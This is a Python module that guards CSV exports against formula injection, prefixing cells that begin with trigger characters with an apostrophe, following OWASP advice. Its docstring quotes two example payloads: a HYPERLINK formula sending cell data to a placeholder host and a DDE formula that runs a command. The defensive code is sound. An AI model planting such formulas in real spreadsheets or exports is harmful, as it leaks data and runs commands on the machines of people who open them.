"""CSV cells that a spreadsheet will not run as a formula (CSV/formula injection).

Why: a screened name, label or file name such as ``=HYPERLINK("http://x/?"&A1)`` or
``+cmd|' /C calc'!A0`` is data; opened in Excel or LibreOffice it would be evaluated. A
cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading
apostrophe (the OWASP advice), except plain numbers such as ``-1.5``, which stay numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def csv_cell(value: object) -> object:
    """``value`` unchanged unless it is text a spreadsheet would read as a formula."""
    if not isinstance(value, str) or not value.startswith(_TRIGGERS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeCsvWriter:
    """``csv.writer`` whose every cell passes through :func:`csv_cell`."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_dict_row(row: Mapping[str, object]) -> dict[str, object]:
    """A ``csv.DictWriter`` row with every value passed through :func:`csv_cell`."""
    return {k: csv_cell(v) for k, v in row.items()}
